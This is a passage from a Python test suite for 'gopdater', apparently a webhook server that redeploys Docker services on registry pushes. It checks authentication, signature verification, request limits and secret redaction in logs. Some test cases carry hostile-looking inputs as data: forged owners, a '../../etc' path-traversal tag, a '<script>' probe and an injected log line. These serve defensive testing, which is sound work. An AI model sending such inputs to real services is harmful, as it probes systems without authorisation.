                self.assertEqual(code, 1)
                self.assertIn("FAIL ", out)
                self.assertIn(fix, out)

    def test_check_with_a_bad_setting_exits_1_naming_it(self):
        """gopdater --check with OWNER missing prints one FAIL line and exits 1 (not 2)."""
        out = io.StringIO()
        with mock.patch.dict(os.environ, {"WEBHOOK_SECRET": SECRET}, clear=True), contextlib.redirect_stdout(out):
            self.assertEqual(gopdater.main(["--check"]), 1)
        self.assertTrue(out.getvalue().startswith("FAIL OWNER is not set"))

    def test_check_shows_the_dry_run_and_services_mapping(self):
        """With SERVICES and DRY_RUN set, --check says which pairs update and that nothing will run."""
        code, out = self.check(FakeDocker(), SERVICES="acme/mirror=site", DRY_RUN=1)
        self.assertEqual(code, 0, out)
        self.assertIn("service demo/site: updates on a push of docker.io/acme/mirror:latest", out)
        self.assertIn("DRY_RUN is on", out)


# ---------------------------------------------------------------------------------------------
# HTTP
# ---------------------------------------------------------------------------------------------


def signed(body):
    return "sha256=" + hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()


class AppTest(unittest.TestCase):
    def setUp(self):
        self.rig = Rig(self)

    def assert_nothing_runs(self):
        self.assertEqual(self.rig.fake.calls, [])
        self.assertEqual(self.rig.queue.queued(), 0)
        self.assertEqual(self.rig.queue.views(), [])

    def test_valid_docker_hub_hook_is_accepted_and_queued(self):
        """POST /hooks/<secret> with Docker Hub's body answers 202 with the id and services, and queues."""
        status, reply, _ = self.rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
        self.assertEqual(status, HTTPStatus.ACCEPTED)
        self.assertEqual(set(reply), {"status", "id", "services"})
        self.assertEqual((reply["status"], reply["services"]), ("accepted", ["demo/site"]))
        self.assertEqual([d["id"] for d in self.rig.queue.views()], [reply["id"]])
        self.assertEqual(self.rig.fake.calls, [], "the request path runs no command")

    def test_bearer_and_trailing_slash_are_accepted(self):
        """POST /hooks with Authorization: Bearer <secret> works; a trailing slash on the URL is fine."""
        body = payload("dockerhub-push.json")
        self.assertEqual(self.rig.post("/hooks", body, Authorization=f"Bearer {SECRET}")[0], HTTPStatus.ACCEPTED)
        self.assertEqual(self.rig.post(f"/hooks/{SECRET}/", body)[0], HTTPStatus.ACCEPTED)

    def test_forged_hooks_run_nothing(self):
        """Wrong or missing secrets, foreign owners and unmapped images get 403/200 and queue nothing."""
        hub = payload("dockerhub-push.json")
        cases = [
            ("wrong secret", "/hooks/" + SECRET[:-1] + "x", hub, {}, HTTPStatus.FORBIDDEN),
            ("secret prefix", "/hooks/" + SECRET[:-1], hub, {}, HTTPStatus.FORBIDDEN),
            ("secret with suffix", "/hooks/" + SECRET + "x", hub, {}, HTTPStatus.FORBIDDEN),
            ("no secret", "/hooks", hub, {}, HTTPStatus.FORBIDDEN),
            ("wrong bearer", "/hooks", hub, {"Authorization": "Bearer nope"}, HTTPStatus.FORBIDDEN),
            ("basic auth", "/hooks", hub, {"Authorization": f"Basic {SECRET}"}, HTTPStatus.FORBIDDEN),
            ("wrong owner", f"/hooks/{SECRET}", {**hub, "repository": {"repo_name": "evil/site"}}, {},
             HTTPStatus.FORBIDDEN),
            ("owner prefix", f"/hooks/{SECRET}", {**hub, "repository": {"repo_name": "acmeevil/site"}}, {},
             HTTPStatus.FORBIDDEN),
            ("unconfigured repo", f"/hooks/{SECRET}", {**hub, "repository": {"repo_name": "acme/other"}}, {},
             HTTPStatus.OK),
            ("tag no service runs", f"/hooks/{SECRET}", {**hub, "push_data": {"tag": "v9"}}, {}, HTTPStatus.OK),
            ("ghcr bad signature", "/hooks/ghcr", payload("ghcr-package-published.json"),
             {"X-GitHub-Event": "package", "X-Hub-Signature-256": "sha256=" + "0" * 64}, HTTPStatus.FORBIDDEN),
            ("ghcr no signature", "/hooks/ghcr", payload("ghcr-package-published.json"),
             {"X-GitHub-Event": "package"}, HTTPStatus.FORBIDDEN),
            ("harbor no header", "/hooks/harbor", payload("harbor-push-artifact.json"), {}, HTTPStatus.FORBIDDEN),
            ("registry bad header", "/hooks/registry", payload("distribution-events.json"),
             {"Authorization": "Bearer " + "x" * 30}, HTTPStatus.FORBIDDEN),
            ("quay wrong secret", "/hooks/wrong-secret-0123456789/quay", payload("quay-repo-push.json"), {},
             HTTPStatus.FORBIDDEN),
        ]
        for name, path, body, hdrs, expected in cases:
            with self.subTest(case=name):
                raw = json.dumps(body).encode()
                message = headers(Content_Length=str(len(raw)))
                for key, value in hdrs.items():
                    message[key] = value
                status, reply, _ = self.rig.app.handle("POST", path, message, raw)
                self.assertEqual(status, expected)
                if expected == HTTPStatus.OK:
                    self.assertEqual(reply, {"status": "ignored", "reason": "no service runs this image and tag"})
                self.assert_nothing_runs()

    def test_bad_requests_get_honest_codes(self):
        """Malformed bodies, fields, paths, methods and sizes each get their code and a fixed reason."""
        hub = payload("dockerhub-push.json")
        hook = f"/hooks/{SECRET}"
        cases = [
            ("POST", hook, b"{not json", {}, HTTPStatus.BAD_REQUEST, "body is not valid JSON"),
            ("POST", hook, b"[1, 2]", {}, HTTPStatus.BAD_REQUEST, "body must be a JSON object"),
            ("POST", hook, b"\xff\xfe\x00", {}, HTTPStatus.BAD_REQUEST, "body is not valid JSON"),
            ("POST", hook, json.dumps(hub).encode("utf-16"), {}, HTTPStatus.BAD_REQUEST, "body is not valid JSON"),
            ("POST", hook, b"[" * 100000, {}, HTTPStatus.BAD_REQUEST, "body is not valid JSON"),
            ("POST", hook, json.dumps({**hub, "repository": {}}).encode(), {}, HTTPStatus.BAD_REQUEST,
             "missing or invalid field: repository.repo_name"),
            ("POST", hook, json.dumps({**hub, "push_data": {"tag": "../../etc"}}).encode(), {},
             HTTPStatus.BAD_REQUEST, "missing or invalid field: push_data.tag"),
            ("GET", hook, b"", {}, HTTPStatus.METHOD_NOT_ALLOWED, "method not allowed"),
            ("PUT", "/hooks/ghcr", b"", {}, HTTPStatus.METHOD_NOT_ALLOWED, "method not allowed"),
            ("POST", "/healthz", b"", {}, HTTPStatus.METHOD_NOT_ALLOWED, "method not allowed"),
            ("GET", "/", b"", {}, HTTPStatus.NOT_FOUND, "not found"),
            ("POST", f"/hooks/{SECRET}/gitlab", b"{}", {}, HTTPStatus.NOT_FOUND, "not found"),
            ("POST", "/hooksx", b"{}", {}, HTTPStatus.NOT_FOUND, "not found"),
            ("POST", hook, b"{}", {"Content-Length": None}, HTTPStatus.LENGTH_REQUIRED, "Content-Length is required"),
            ("POST", hook, b"{}", {"Content-Length": "-1"}, HTTPStatus.BAD_REQUEST, "invalid Content-Length"),
            ("POST", hook, b"{}", {"Content-Length": str(1024 * 1024 + 1)}, HTTPStatus.REQUEST_ENTITY_TOO_LARGE,
             "body is over 1 MiB"),
            ("POST", "/hooks/registry", b"{}", {"Authorization": f"Bearer {SECRET}", "Content-Type": "text/plain"},
             HTTPStatus.UNSUPPORTED_MEDIA_TYPE, "unsupported Content-Type"),
            ("POST", hook, b"{}", {"Content-Length": "\u00b2"}, HTTPStatus.BAD_REQUEST, "invalid Content-Length"),
            ("POST", hook, b"{}", {"Content-Length": "\u0662"}, HTTPStatus.BAD_REQUEST, "invalid Content-Length"),
            ("POST", hook, b"{}", {"Content-Length": "+2"}, HTTPStatus.BAD_REQUEST, "invalid Content-Length"),
            ("POST", hook, b"{}", {"Content-Length": "2, 2"}, HTTPStatus.BAD_REQUEST, "invalid Content-Length"),
            ("POST", hook, b"{}", {"Content-Length": "9" * 5000}, HTTPStatus.REQUEST_ENTITY_TOO_LARGE,
             "body is over 1 MiB"),
            ("POST", hook, b"{}", {"Content-Length": "12345678"}, HTTPStatus.REQUEST_ENTITY_TOO_LARGE,
             "body is over 1 MiB"),
            ("POST", hook, b"{}", {"Transfer-Encoding": "chunked"}, HTTPStatus.LENGTH_REQUIRED,
             "Content-Length is required"),
            ("GET", "http://[x?a", b"", {}, HTTPStatus.NOT_FOUND, "not found"),
        ]
        for method, path, body, hdrs, expected, reason in cases:
            with self.subTest(method=method, path=path, body=body[:30], headers=hdrs):
                message = headers(Content_Length=str(len(body)))
                for key, value in hdrs.items():
                    del message[key]
                    if value is not None:
                        message[key] = value
                status, reply, extra = self.rig.app.handle(method, path, message, body)
                self.assertEqual(status, expected)
                self.assertEqual(reply, {"status": "error", "reason": reason})
                if status == HTTPStatus.METHOD_NOT_ALLOWED:
                    self.assertIn("Allow", dict(extra))
                self.assert_nothing_runs()

    def test_size_then_secret_then_parse(self):
        """An oversized body is 413 even with a wrong secret; bad JSON with a wrong secret is 403, not 400."""
        big = headers(Content_Length=str(2 * 1024 * 1024))
        self.assertEqual(self.rig.app.handle("POST", "/hooks/wrong", big, b"").status,
                         HTTPStatus.REQUEST_ENTITY_TOO_LARGE)
        self.assertEqual(self.rig.post("/hooks/wrong-secret-000000000", b"{not json")[0], HTTPStatus.FORBIDDEN)
        self.assertEqual(self.rig.post(f"/hooks/{SECRET}", b"{not json")[0], HTTPStatus.BAD_REQUEST)

    def test_every_sender_compares_its_credential_in_constant_time(self):
        """Each sender's check hands the secret (or the expected signature) to the constant-time compare_digest."""
        body = b'{"x": 1}'
        wrong = "sha256=" + "0" * 64
        for sender in gopdater.SENDERS:
            with self.subTest(sender=sender.name, path=sender.path):
                path = sender.path.replace("{secret}", "wrong-secret-0123456789")
                message = headers(Content_Length=str(len(body)), Authorization="Bearer wrong-secret-0123456789",
                                  X_Hub_Signature_256=wrong, X_Gitea_Signature="0" * 64)
                with mock.patch("hmac.compare_digest", wraps=hmac.compare_digest) as compare:
                    self.assertEqual(self.rig.app.handle("POST", path, message, body).status, HTTPStatus.FORBIDDEN)
                compared = [bytes(arg) for call in compare.call_args_list for arg in call.args]
                digest = hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest().encode()
                self.assertTrue(any(SECRET.encode() == c or c.endswith(digest) for c in compared), compared)

    def test_no_response_echoes_the_request(self):
        """A marker in the body, path or headers never appears in any reply."""
        marker = "MARKER<script>"
        bodies = [b"{" + marker.encode(), json.dumps({"repository": {"repo_name": marker}}).encode(),
                  json.dumps({"repository": {"repo_name": "acme/site"}, "push_data": {"tag": marker}}).encode(),
                  json.dumps({"repository": {"repo_name": f"{marker}/x"}, "push_data": {"tag": "v"}}).encode()]
        for body in bodies:
            for path in (f"/hooks/{SECRET}", f"/hooks/{marker}", f"/{marker}"):
                with self.subTest(body=body[:40], path=path):
                    reply = self.rig.app.handle("POST", path, headers(Content_Length=str(len(body)),
                                                                      X_Marker=marker), body)[1]
                    self.assertNotIn("MARKER", json.dumps(reply))

    def test_healthz_needs_no_secret_and_reveals_nothing(self):
        """GET /healthz answers {"status": "ok"} and nothing else."""
        self.rig.start_worker()
        status, reply, _ = self.rig.app.handle("GET", "/healthz", headers(), b"")
        self.assertEqual((status, reply), (HTTPStatus.OK, {"status": "ok"}))

    def test_deployments_view_needs_the_secret(self):
        """GET /deployments lists the recent deployments with the bearer secret, and 403 without it."""
        self.rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
        self.assertEqual(self.rig.app.handle("GET", "/deployments", headers(), b"")[0], HTTPStatus.FORBIDDEN)
        status, reply, _ = self.rig.app.handle("GET", "/deployments", headers(Authorization=f"Bearer {SECRET}"), b"")
        self.assertEqual(status, HTTPStatus.OK)
        view, = reply["deployments"]
        self.assertEqual({k: view[k] for k in ("image", "tag", "kind", "project", "service", "state")},
                         {"image": "docker.io/acme/site", "tag": "latest", "kind": "compose", "project": "demo",
                          "service": "site", "state": "queued"})
        self.assertLessEqual({"id", "steps", "error", "created", "started", "finished", "digest"}, set(view))

    def test_deployments_view_keeps_the_last_fifty(self):
        """Only the 50 most recent deployments are kept."""
        rig = Rig(self, SERVICES=",".join(f"acme/site:v{n}=site" for n in range(60)))
        for n in range(60):
            rig.deploy(f"acme/site:v{n}")
        views = rig.queue.views()
        self.assertEqual((len(views), views[0]["tag"], views[-1]["tag"]), (50, "v59", "v10"))

    def test_ghcr_signature_ping_and_push(self):
        """GHCR is authenticated by X-Hub-Signature-256 before parsing; ping answers 200."""
        raw = json.dumps(payload("ghcr-package-published.json")).encode()
        status, reply, _ = self.rig.post("/hooks/ghcr", b"{}", X_GitHub_Event="ping", X_Hub_Signature_256=signed(b"{}"))
        self.assertEqual((status, reply["status"]), (HTTPStatus.OK, "ok"))
        rig = Rig(self, OWNER="ghcr.io/acme", SERVICES="ghcr.io/acme/site=site")
        status, reply, _ = rig.post("/hooks/ghcr", raw, X_GitHub_Event="package", X_Hub_Signature_256=signed(raw))
        self.assertEqual((status, reply["services"]), (HTTPStatus.ACCEPTED, ["demo/site"]))
        self.assertEqual(rig.queue.views()[0]["digest"],
                         "sha256:4f0a1c8e6b8e1f3a2d9c5b7e0a6f4d2c1b3a5e7f9d0c2b4a6e8f0a1c3e5b7d9f")

    def test_github_signature_matches_the_documented_test_vector(self):
        """GitHub's documented vector: secret "It's a Secret to Everybody", body "Hello, World!"."""
        config = make_config()._replace(secret="It's a Secret to Everybody")
        check = next(s for s in gopdater.SENDERS if s.name == "ghcr").authenticate.check
        expected = "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"
        secret = config.secret.encode()
        self.assertTrue(check(secret, "", headers(X_Hub_Signature_256=expected), b"Hello, World!"))
        self.assertFalse(check(secret, "", headers(X_Hub_Signature_256=expected), b"Hello, World?"))

    def test_each_sender_reaches_the_same_deployment_path(self):
        """Quay, Harbor and Distribution deliveries for a configured image are accepted like Docker Hub's."""
        owners = "quay.io/acme,harbor.example.org/acme,registry.example.org/acme"
        services = "quay.io/acme/site=site,harbor.example.org/acme/site=site,registry.example.org/acme/site=site"
        bearer = {"Authorization": f"Bearer {SECRET}"}
        cases = [
            (f"/hooks/{SECRET}/quay", "quay-repo-push.json", {}),
            ("/hooks/harbor", "harbor-push-artifact.json", bearer),
            ("/hooks/registry", "distribution-events.json",
             {**bearer, "Content-Type": "application/vnd.docker.distribution.events.v1+json"}),
            ("/hooks/registry", "distribution-events.json",
             {**bearer, "Content-Type": "application/vnd.docker.distribution.events.v2+json"}),
        ]
        for path, name, hdrs in cases:
            with self.subTest(path=path, sample=name):
                rig = Rig(self, OWNER=owners, SERVICES=services)
                raw = json.dumps(payload(name)).encode()
                message = headers(Content_Length=str(len(raw)))
                for key, value in hdrs.items():
                    message[key] = value
                status, reply, _ = rig.app.handle("POST", path, message, raw)
                self.assertEqual((status, reply["services"]), (HTTPStatus.ACCEPTED, ["demo/site"]))

    def test_a_delivery_listing_over_a_hundred_tags_is_refused_whole(self):
        """A Quay hook with 100,000 tags (or Harbor resources, or registry events): 413 naming the list, before
        any tag is looked at, nothing queued; 100 is still a delivery."""
        rig = Rig(self, OWNER="quay.io/acme", SERVICES="quay.io/acme/site=site")
        quay = payload("quay-repo-push.json")
        status, reply, _ = rig.post(f"/hooks/{SECRET}/quay", {**quay, "updated_tags": ["latest"] * 100_000})
        self.assertEqual((status, reply["reason"]), (HTTPStatus.REQUEST_ENTITY_TOO_LARGE,
                                                     "updated_tags lists over 100 items"))
        status, reply, _ = rig.post(f"/hooks/{SECRET}/quay", {**quay, "updated_tags": ["x y"] * 101})
        self.assertEqual(status, HTTPStatus.REQUEST_ENTITY_TOO_LARGE, "refused before a tag is checked")
        self.assertEqual(rig.queue.views(), [])
        status, reply, _ = rig.post(f"/hooks/{SECRET}/quay", {**quay, "updated_tags": ["latest"] * 100})
        self.assertEqual(status, HTTPStatus.ACCEPTED)

    def test_the_secret_is_redacted_whatever_it_begins_with_and_however_long(self):
        """A secret that begins like a sender's own path (acr-, ghcr.) and is longer than the 200 characters of
        the request line the log keeps: no 8 characters of it in a row reach the log line."""
        for secret in ("acr-" + "k" * 300, "ghcr." + "k" * 190, "harbor" + "k" * 30, "registry-" + "k" * 500):
            with self.subTest(secret=secret[:12]):
                line = gopdater.redact(f'127.0.0.1 "POST /hooks/{secret}/x HTTP/1.1"'[:200] + " 403", secret)
                self.assertNotIn(secret[:8], line)
                self.assertNotIn("k" * 8, line)
                self.assertIn("/hooks/***", line)
        self.assertEqual(gopdater.redact('"POST /hooks/acr HTTP/1.1"', "s3cret-s3cret"), '"POST /hooks/acr HTTP/1.1"')

    def test_wrong_owner_per_sender(self):
        """A namespace outside OWNER is 403 for each sender, but only ignored for a Distribution registry."""
        bearer = {"Authorization": f"Bearer {SECRET}"}
        cases = [
            (f"/hooks/{SECRET}/quay", "quay-repo-push.json", {}, HTTPStatus.FORBIDDEN),
            ("/hooks/harbor", "harbor-push-artifact.json", bearer, HTTPStatus.FORBIDDEN),
            ("/hooks/registry", "distribution-events.json", {**bearer, "Content-Type": "application/json"},
             HTTPStatus.OK),
        ]
        for path, name, hdrs, expected in cases:
            with self.subTest(path=path):
                raw = json.dumps(payload(name)).encode()
                message = headers(Content_Length=str(len(raw)))
                for key, value in hdrs.items():
                    message[key] = value
                status, reply, _ = self.rig.app.handle("POST", path, message, raw)
                self.assertEqual(status, expected)
                self.assert_nothing_runs()

    def test_gitea_and_forgejo_are_authenticated_by_their_signature_headers(self):
        """/hooks/gitea takes X-Gitea-Signature, X-Forgejo-Signature or X-Hub-Signature-256 over the raw body."""
        rig = Rig(self, OWNER="git.example.org/acme", SERVICES="git.example.org/acme/site=site")
        raw = json.dumps(payload("gitea-package-created.json")).encode()
        digest = hmac.new(SECRET.encode(), raw, hashlib.sha256).hexdigest()
        good = [{"X_Gitea_Event": "package", "X_Gitea_Signature": digest},
                {"X_Forgejo_Event": "package", "X_Forgejo_Signature": digest},
                {"X_Gitea_Event": "package", "X_Hub_Signature_256": "sha256=" + digest}]
        bad = [{"X_Gitea_Event": "package"}, {"X_Gitea_Event": "package", "X_Gitea_Signature": "0" * 64},
               {"X_Gitea_Event": "package", "X_Gitea_Signature": "sha256=" + digest},
               {"X_Gitea_Event": "package", "X_Hub_Signature_256": digest}]
        for hdrs in good:
            with self.subTest(accepted=hdrs):
                self.assertEqual(rig.post("/hooks/gitea", raw, **hdrs)[0], HTTPStatus.ACCEPTED)
        for hdrs in bad:
            with self.subTest(refused=hdrs):
                self.assertEqual(rig.post("/hooks/gitea", raw, **hdrs)[0], HTTPStatus.FORBIDDEN)
        forged = json.dumps({**payload("gitea-package-created.json"), "action": "deleted"}).encode()
        self.assertEqual(rig.post("/hooks/gitea", forged, X_Gitea_Event="package", X_Gitea_Signature=digest)[0],
                         HTTPStatus.FORBIDDEN, "a signature over another body does not pass")

    def test_acr_is_authenticated_by_bearer_and_owner_checked(self):
        """/hooks/acr: the bearer secret is required, and the namespace must be in OWNER."""
        raw = json.dumps(payload("acr-push.json")).encode()
        rig = Rig(self, OWNER="acmeregistry.azurecr.io/acme", SERVICES="acmeregistry.azurecr.io/acme/site=site")
        self.assertEqual(rig.post("/hooks/acr", raw, Authorization=f"Bearer {SECRET}")[0], HTTPStatus.ACCEPTED)
        self.assertEqual(rig.post("/hooks/acr", raw)[0], HTTPStatus.FORBIDDEN)
        self.assertEqual(rig.post("/hooks/acr", raw, Authorization="Bearer wrong-secret-0123456789")[0],
                         HTTPStatus.FORBIDDEN)
        self.assertEqual(self.rig.post("/hooks/acr", raw, Authorization=f"Bearer {SECRET}")[0], HTTPStatus.FORBIDDEN,
                         "OWNER=acme does not cover the Azure registry")
        self.assert_nothing_runs()

    def test_cross_registry_name_clash_does_not_match(self):
        """ghcr.io/acme/site:latest never updates a service running Docker Hub's acme/site:latest."""
        rig = Rig(self, OWNER="acme,ghcr.io/acme")
        raw = json.dumps(payload("ghcr-package-published.json")).encode()
        status, reply, _ = rig.post("/hooks/ghcr", raw, X_GitHub_Event="package", X_Hub_Signature_256=signed(raw))
        self.assertEqual((status, reply["status"]), (HTTPStatus.OK, "ignored"))
        self.assertEqual(rig.queue.views(), [])

    def test_multi_event_envelope_queues_each_image(self):
        """A Distribution envelope with two tagged pushes queues both images' services."""
        fake = FakeDocker(services={"site": "reg.example.org/acme/site:latest", "api": "reg.example.org/acme/api:v2"})
        fake.images = {"reg.example.org/acme/site:latest": OLD_ID, "reg.example.org/acme/api:v2": OLD_ID}
        rig = Rig(self, fake, OWNER="reg.example.org/acme")
        event = payload("distribution-events.json")["events"][0]
        event["request"]["host"] = "reg.example.org"
        second = copy.deepcopy(event)
        second["target"].update(repository="acme/api", tag="v2")
        status, reply, _ = rig.post("/hooks/registry", {"events": [event, second]},
                                    Authorization=f"Bearer {SECRET}", Content_Type="application/json")
        self.assertEqual((status, reply["services"], len(reply["ids"])), (HTTPStatus.ACCEPTED, ["demo/api", "demo/site"], 2))

    def test_a_parsed_head_reads_as_http_client_reads_it(self):
        """The head parser's headers (which keep their content type once asked) answer as http.client's."""
        heads = ["Host: a", "Content-Type: application/json; charset=utf-8", "Content-Type: TEXT/Plain",
                 "Content-Type: nonsense", "Content-Type: a/b\r\nContent-Type: c/d", "X-A: 1\r\nX-A: 2"]
        for fields in heads:
            with self.subTest(fields=fields):
                raw = f"POST /hooks HTTP/1.1\r\n{fields}\r\n\r\n".encode()
                parsed = gopdater.head_parser()(raw).headers
                plain = http.client.parse_headers(io.BytesIO(raw.split(b"\r\n", 1)[1]))
                self.assertEqual((parsed.items(), parsed.get_content_type(), parsed.get_content_maintype()),
                                 (plain.items(), plain.get_content_type(), plain.get_content_maintype()))

    def test_content_length_is_one_to_seven_ascii_digits_and_never_two_that_differ(self):
        """Content-Length values as a client may send them: what body length each means, or its refusal."""
        cases = [(["0"], 0), (["73"], 73), ([" 73 "], 73), (["0" * 5000], 0), (["0073"], 73),
                 (["73", "73"], 73), (["1048576"], 1048576),
                 (["73", "74"], HTTPStatus.BAD_REQUEST), (["7e1"], HTTPStatus.BAD_REQUEST),
                 (["0x10"], HTTPStatus.BAD_REQUEST), (["\u00b2"], HTTPStatus.BAD_REQUEST), ([""], HTTPStatus.BAD_REQUEST),
                 (["1048577"], HTTPStatus.REQUEST_ENTITY_TOO_LARGE), (["9" * 5000], HTTPStatus.REQUEST_ENTITY_TOO_LARGE)]
        for values, expected in cases:
            with self.subTest(values=[v[:10] for v in values]):
                message = headers()
                for value in values:
                    message["Content-Length"] = value
                length = gopdater.body_length("POST", message)
                self.assertEqual(length if isinstance(length, int) else length.status, expected)

    def test_a_wrong_secret_in_the_path_or_a_bearer_token_is_refused_from_the_head(self):
        """begin() refuses a wrong path secret or token before any body is read; a signature needs the body."""
        big = headers(Content_Length=str(1024 * 1024), Authorization="Bearer wrong-secret-0123456789")
        for path in ("/hooks/wrong-secret-0123456789", "/hooks/wrong-secret-0123456789/quay", "/hooks",
                     "/hooks/harbor", "/hooks/registry", "/hooks/acr"):
            with self.subTest(path=path):
                request = self.rig.app.begin("POST", path, big)
                self.assertEqual((request.refused, request.length), (gopdater.FORBIDDEN, 1024 * 1024))
        for path in ("/hooks/ghcr", "/hooks/gitea"):
            with self.subTest(path=path):
                request = self.rig.app.begin("POST", path, big)
                self.assertEqual((request.refused, request.verified), (None, False))
        self.assertEqual(self.rig.app.begin("POST", f"/hooks/{SECRET}", big).refused, None)

    def test_an_absolute_url_routes_by_its_path(self):
        """A request line in absolute form (as a proxy may send it) is routed by its path alone."""
        for target, endpoint in [("http://example.org/healthz", "/healthz"), ("https://example.org/healthz?x", "/healthz"),
                                 ("http://[x?a", ""), ("http://example.org", ""), ("/healthz#x", "/healthz")]:
            with self.subTest(target=target):
                self.assertEqual(gopdater.route(target)[1], endpoint)


class LogFormatTest(unittest.TestCase):
    def test_nothing_a_message_carries_starts_a_log_line_of_its_own(self):
        """gopdater's log format escapes line breaks, escape sequences and Unicode's line separators in a
        message; a traceback still follows its line."""
        formatter = gopdater.OneLineFormatter("%(levelname)s %(message)s")
        forged = "ok\n2026-12-07 10:00:00,000 INFO forged\r\x1b[2J\u2028\x85end"
        record = logging.LogRecord("gopdater", logging.WARNING, __file__, 1, "step printed: %s", (forged,), None)
        self.assertEqual(formatter.format(record),
                         "WARNING step printed: ok\\x0a2026-12-07 10:00:00,000 INFO forged\\x0d\\x1b[2J\\u2028\\x85end")
        try:
            raise ValueError("boom")
        except ValueError:
            record = logging.LogRecord("gopdater", logging.ERROR, __file__, 1, "a\nb", (), sys.exc_info())
        lines = formatter.format(record).splitlines()
        self.assertEqual((lines[0], lines[1], lines[-1]), ("ERROR a\\x0ab", "Traceback (most recent call last):",
                                                           "ValueError: boom"))


class RejectLogTest(unittest.TestCase):
    def test_flood_becomes_one_line_then_a_count(self):
        """1,000 rejections in an interval log two lines: the first in full, then a count."""
        clock = FakeClock()
        rejects = gopdater.RejectLog(interval=60, clock=clock)
        with self.assertLogs("gopdater", "WARNING") as logs:
            for _ in range(1000):
                rejects.note(403, lambda: '127.0.0.1 "POST /hooks/*** HTTP/1.1" 403')
            clock.sleep(61)
            rejects.flush()
        self.assertEqual(len(logs.output), 2)
        self.assertIn("rejected 999 more requests", logs.output[1])
        self.assertIn("403: 999", logs.output[1])

    def test_each_kind_of_refusal_gets_its_own_first_line_and_count(self):
        """A flood of 404s does not hide the first 403: each status has its own line a minute, then a count."""
        clock = FakeClock()
        rejects = gopdater.RejectLog(interval=60, clock=clock)
        with self.assertLogs("gopdater", "WARNING") as logs:
            for status in [404] * 500 + [403] * 3:
                rejects.note(status, lambda s=status: f'127.0.0.1 "GET /x HTTP/1.1" {s}')
            clock.sleep(61)
            rejects.flush()
        self.assertEqual([line.split(" (")[0][-3:] for line in logs.output[:2]], ["404", "403"])
        self.assertEqual(sorted(line.split("(")[-1] for line in logs.output[2:]), ["403: 2)", "404: 499)"])


class HTTPServerTest(unittest.TestCase):
    def start(self, **server_args):
        self.rig = Rig(self)
        self.rig.start_worker()
        server = gopdater.HookServer(gopdater.listen("127.0.0.1", 0), self.rig.app, gopdater.Front(**server_args))
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        self.addCleanup(server.shutdown)
        self.port = server.server_address[1]
        self.server = server
        return server

    def request(self, method, path, body=None, **hdrs):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
        self.addCleanup(connection.close)
        connection.request(method, path, body=body, headers={k.replace("_", "-"): v for k, v in hdrs.items()})
        response = connection.getresponse()
        return response.status, json.loads(response.read()), response

    def raw(self, data, shutdown_write=False):
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as sock:
            sock.sendall(data)
            if shutdown_write:
                sock.shutdown(socket.SHUT_WR)
            chunks = []
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    return b"".join(chunks)
                chunks.append(chunk)

    def test_hook_over_http_is_accepted(self):
        """A real POST to /hooks/<secret> answers 202 JSON with no-store caching and no Python banner."""
        self.start()
        body = json.dumps(payload("dockerhub-push.json"))
        status, reply, response = self.request("POST", f"/hooks/{SECRET}", body, Content_Type="application/json")
        self.assertEqual((status, reply["status"]), (202, "accepted"))
        self.assertEqual(response.getheader("Content-Type"), "application/json")
        self.assertEqual(response.getheader("Server"), "gopdater")

    def test_access_log_never_contains_the_secret(self):
        """Access-log lines for right, wrong and bearer secrets all show /hooks/*** and never the secret."""
        self.start()
        body = json.dumps(payload("dockerhub-push.json"))
        with self.assertLogs("gopdater", "DEBUG") as logs:
            self.request("POST", f"/hooks/{SECRET}", body)
            self.request("POST", f"/hooks/{SECRET[:-2]}zz", body)
            self.request("POST", "/hooks", body, Authorization=f"Bearer {SECRET}")
            self.request("GET", f"/hooks/{SECRET}/quay?{SECRET}")
            self.server.shutdown()
        text = "\n".join(logs.output)
        self.assertNotIn(SECRET, text)
        self.assertNotIn(SECRET[:-2], text)
        self.assertIn("/hooks/***", text)

    def test_http_server_errors_are_json_and_the_server_keeps_serving(self):
        """A garbage request line gets a JSON 400 that echoes nothing, and the next request is served."""
        self.start()
        with self.assertLogs("gopdater", "WARNING"):
            answer = self.raw(b"\x00\x01 MARKER garbage\r\n\r\n")
        self.assertTrue(answer.startswith(b"HTTP/1.1 400"), answer[:40])
        self.assertNotIn(b"MARKER", answer)
        self.assertTrue(answer.endswith(b'{"status": "error", "reason": "bad request"}'))
        self.assertEqual(self.request("GET", "/healthz")[0], 200)

    def test_oversized_body_is_refused_before_it_is_read(self):
        """Content-Length over 1 MiB is answered 413 at once, and the client can read the answer."""
        self.start()
        head = f"POST /hooks/{SECRET} HTTP/1.1\r\nHost: x\r\nContent-Length: {4 * 1024 * 1024}\r\n\r\n".encode()
        with self.assertLogs("gopdater", "WARNING") as logs:
            answer = self.raw(head + b"x" * 300000, shutdown_write=True)
        self.assertTrue(answer.startswith(b"HTTP/1.1 413"), answer[:40])
        self.assertNotIn(SECRET, "\n".join(logs.output))

    def test_idle_connections_hold_no_thread_and_do_not_block_a_hook(self):
        """100 idle connections add no thread and a valid hook is still answered."""
        self.start()
        self.assertEqual(self.request("GET", "/healthz")[0], 200)
        before = threading.active_count()
        idle = [socket.create_connection(("127.0.0.1", self.port)) for _ in range(100)]
        for sock in idle:
            self.addCleanup(sock.close)
        idle[0].sendall(b"POST /hooks/x HTTP/1.1\r\nContent-Length: 10\r\n\r\n")  # half a request
        body = json.dumps(payload("dockerhub-push.json"))
        self.assertEqual(self.request("POST", f"/hooks/{SECRET}", body)[0], 202)
        self.assertEqual(threading.active_count(), before)

    def test_connections_beyond_the_limit_drop_the_oldest(self):
        """With MAX_CONNECTIONS held, a new connection evicts the oldest idle one."""
        self.start(max_connections=5)
        with self.assertLogs("gopdater", "WARNING"):
            idle = [socket.create_connection(("127.0.0.1", self.port), timeout=5) for _ in range(5)]
            for sock in idle:
                self.addCleanup(sock.close)
            body = json.dumps(payload("dockerhub-push.json"))
            self.assertEqual(self.request("POST", f"/hooks/{SECRET}", body)[0], 202)
            self.assertTrue(idle[0].recv(1024).startswith(b"HTTP/1.1 503"))

    def test_silent_connects_go_before_a_client_that_was_answered(self):
        """Connections that have sent nothing are dropped first, and at most a quarter of MAX_CONNECTIONS of
